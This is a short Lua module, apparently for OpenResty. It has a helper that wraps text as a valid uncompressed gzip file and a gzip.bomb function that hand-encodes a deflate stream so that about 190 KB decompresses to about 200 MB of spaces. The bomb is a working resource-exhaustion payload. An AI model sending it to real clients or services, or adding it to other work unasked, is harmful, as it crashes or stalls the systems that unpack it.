--- gzip without a compressor: a text wrapped as it is, and a bomb.

local gzip = {}

local HEADER = "\31\139\8\0\0\0\0\0\0\255"

local function little_endian(n, bytes)
  local out = {}
  for i = 1, bytes do
    out[i] = string.char(n % 256)
    n = math.floor(n / 256)
  end
  return table.concat(out)
end

-- CRC-32 of the text, then its length
local function trailer(crc, length)
  return little_endian(crc, 4) .. little_endian(length, 4)
end

--- A valid gzip file that holds the text in "stored" blocks.
function gzip.wrap(text)
  local parts = { HEADER }
  local at = 1
  repeat
    local block = text:sub(at, at + 65534)
    at = at + #block
    parts[#parts + 1] = (at > #text and "\1" or "\0")
      .. little_endian(#block, 2) .. little_endian(65535 - #block, 2) .. block
  until at > #text
  parts[#parts + 1] = trailer(ngx.crc32_long(text), #text)
  return table.concat(parts)
end

-- Packs "0" and "1" into bytes, the lowest bit first.
local function packed(bits)
  bits = bits:gsub("[^01]", "")
  bits = bits .. ("0"):rep(-#bits % 8)
  return (bits:gsub("........", function(eight)
    return string.char(tonumber(eight:reverse(), 2))
  end))
end

-- RFC 1951, one block with codes of its own: a blank is 10, the end is 11, and
-- "the last byte again, 258 times" is 0 (the length), 0 (the distance). So four
-- of the latter are one zero byte: all but the start and the end is zeros. The
-- start ends within a byte, whose 7 zeros and the end's first make four, too.
local MATCHES = 775192
local BLANKS, BLANKS_CRC = 1 + 258 * MATCHES, 0xcb2f03a5
local START = packed([[
  1 01 10111 00000 0111
  000 000 100 000 000 000 000 000 000 000 000 000 000 000 000 010 000 010
  0 1010100  11  0 1111111  0 0101001  11  0 1000100  10  10
  10 ]])
local END = packed("0 11")

--- What unpacks to 200 MB of blanks, in 190 KB.
function gzip.bomb()
  return HEADER .. START .. ("\0"):rep(MATCHES / 4 - 1) .. END .. trailer(BLANKS_CRC, BLANKS)
end

return gzip
